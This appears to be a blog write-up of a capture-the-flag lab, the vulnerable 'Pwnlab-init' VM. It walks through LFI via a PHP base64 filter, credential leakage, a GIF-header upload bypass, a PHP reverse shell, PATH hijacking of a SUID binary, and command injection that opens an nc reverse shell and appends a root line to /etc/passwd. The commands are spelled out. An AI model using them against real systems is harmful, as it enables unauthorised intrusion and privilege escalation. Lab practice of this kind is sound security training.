The next machine on the list is Pwnlab-init which can be downloaded here:,158/

To find the IP adress of the machine we used netdiscover on our local network.

The machine should be on the 130 address. Lets start an normal nmap scan and a full nmap scan. Lets have a look at the results:

So we got a couple ports, port 80, 111 and3306. Lets start the tools Nikto and Dirb on the running webservice to do some enumeration. The full nmap scan didn’t provided any extra ports. While these are running, lets have a look at port 80 by going to the webaddress.

Seems like a simple website. We can not upload anything since we have to be logged in. Lets try a simple SQL injection. From the nmap results we already knew there is mysql running. Inputting ' or 1=1or ' or 1=1 # didn’t gave us any luck. The ?page parameter looks vulnerable to LFI but again, I didn’t have any luck getting to the passwd files or anything.

Nikto and Dirb didn’t gave us much info either. There is a config file but we can not read its contents. Feels like we have to do a SQL injection on the website. But first lets have a look on the other services running. I checked the rpc service but I couldn’t connect to it with showmount. No idea how this worked so I looked it up, still not to familiar with it. Seems like a dead end.

After some reading I found out that we have to do a LFI using the php wrapper described in this blog. Which will base64 decode the config file and give us the base64 string, which we can decode to get the contents of the config file. Lets try this out. By going to the following url: we could get the base64 string of the config file.

To easily decode the base64 string we can use cyberchef at or we echo the base64 string and pipe this into the base64 command. echo "PD9waHANCiRzZXJ2ZXIJICA9ICJsb2NhbGhvc3QiOw0KJHVzZXJuYW1lID0gInJvb3QiOw0KJHBhc3N3b3JkID0gIkg0dSVRSl9IOTkiOw0KJGRhdGFiYXNlID0gIlVzZXJzIjsNCj8" | base64 -d

Seems like we got the username and password for the mysql database which is root:H4u%QJ_H99. Can we use this to login intothe website aswell? Nop this is not possible. By using the command mysql -h -u root -p and the password we could login to the mysql server.

It has been a while ago since I used mysql and had a look around. So you can see the commands and output below without a ton of errors in between:

MySQL [(none)]> use Users;
Reading table information for completion of table and column names
You can turn off this feature to get a quicker startup with -A
Database changed

MySQL [Users]> show tables;
| Tables_in_Users |
| users           |
1 row in set (0.000 sec)

MySQL [Users]> select * from users;
| user | pass             |
| kent | Sld6WHVCSkpOeQ== |
| mike | U0lmZHNURW42SQ== |
| kane | aVN2NVltMkdSbw== |
3 rows in set (0.000 sec)

So we got 3 values, which seems to be base64 decoded since there is a == at the end. Lets base64 decode this as we did above and have a look if it seems like a password or not. Kent:JWzXuBJJNy, Mike:SIfdsTEn6I and Kane:iSv5Ym2GRo. Seems valid lets try it.

We are logged in and greeted with a upload functionality.

Lets copy a php reverse webshell and change it contents to connect to our IP and port 8080.
cp /usr/share/webshells/php/php-reverse-shell.php ~/pwnlabinit/

Lets upload this file and we get the error “Not allowed extension, please upload images only.” So we can try a couple things. Lets ty to do a .png.php file. Which also failed. Aah ye, I need to setup burb still. Lets do this quickly, install the certificate and foxyproxy etc. After setting it up, lets see if we can justupload the .php file and change the request to look like its .png or something. I think I have to change these values:

So lets upload a png file and see what the content-type looks like so we can use that when we intercept the upload of the php file. The PNG file show the following:

So lets upload the php file and change the content-type to image/png. But since burp is using 8080 now we had to change the reverse shell to port 443 and start a listener with the command nc -lvp 443. So lets upload the file and see. We still get the error Not allowed extension, please upload images only.

Apparently if you upload the file with GIF87a in front of the php tag, it surpasses the header check, thinking it is a GIF image. Like the screenshot below:

When you open the file in the /upload/ directory youget an error, thinking the image is corrupt. You can not open it this way. It took me quite some time and I had to lookup some help. But the lang cookie is vulnerable, since it uses the include statement. Running the file you want.

We got a reverse shell as the www-data user.

We have no tty control, so lets spawn a tty shell. The command python -c 'import pty; pty.spawn("/bin/sh")' worked for me. So after looking around a bit, I found the same usernames. Would these work with the passwords we found earlier?

Kent works but nothing interesting, Mike didn’t work and in Kane his home directory is a executable named msgmike with Mike as the owner and group.

The ./msgmike executable is executing cat.I had no idea how to exploit this so I googled and came up to the following: Sine we own the path variable we can change it so itexecutes another executable as the user Mike, since there is the SUID bit and Mike is the owner. Lets save the current $PATH variable since we have to set it back after incase we need to do something else.

echo $PATH

We make a executable named cat with the contents of spawning a shell. echo "/bin/bash" > cat && chmod +x cat after that we change the PATH to . (The current directory) with the following command: Export PATH=. and then we run the msgmike again and we are Mike. NICE!

Now we have to change the PATH variable back since we can not to anything. So we do export PATH=/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games and we can use command again. In the home directory of mike there is another executable, owned by root with the SUID bit set. Do we have to do the same? Lets run it and have a look.

Doesn’t seem like we have to use the same vulnerability. What a bummer. So after looking into the executable with strings I saw the following:

Seems like it is executing echo in the /bin directory, meaning we can not change the path variable like before. However it is pasting our input into the %s spot (I think). So I tried putting the following as the message: && echo "test" > /tmp/test.txt making the whole command /bin/echo %s && echo "test" > /tmp/test.txt >> /root/messages.txt. And it made the test.txt file in /tmp. Owned by root.

Now we have to think of a payload to get root access. We can probably do a reverse shell. Lets try this: && nc 4444 –e /bin/bash &&. But first start a listener on our machine with nc -lvp 4444 but this did not work! We gota shell as mike.

Dammn then you FUCK up the whole machine by overwriting /etc/passwd instead of attending. RIP. After reversing the machine and doing the exploits above again. We are the user Mike again… Now lets retry echoing a new line to the passwd file with the following message && echo "roott::0:0:root:/root:/bin/bash" >> /etc/passwd &&. But to be sure, lets snapshot the machine quickly. Execute the message and have a look at the /etc/passwd file.

Ye right, the password for mike was incorrect when we tried to login on it. So we have to add a line for mike that it doesn’t have a password I guess. Lets try :D. We still got a failure. Lets go back to Kane and try su? hmm seems not possible. After somegoogling I found the following on stackoverflow:

So afterredoing it with a hash instead of an empty password we got root 😀 This took me quite some time but learned a lot of exploiting vulnerable executables. Never didthis before! Was fun!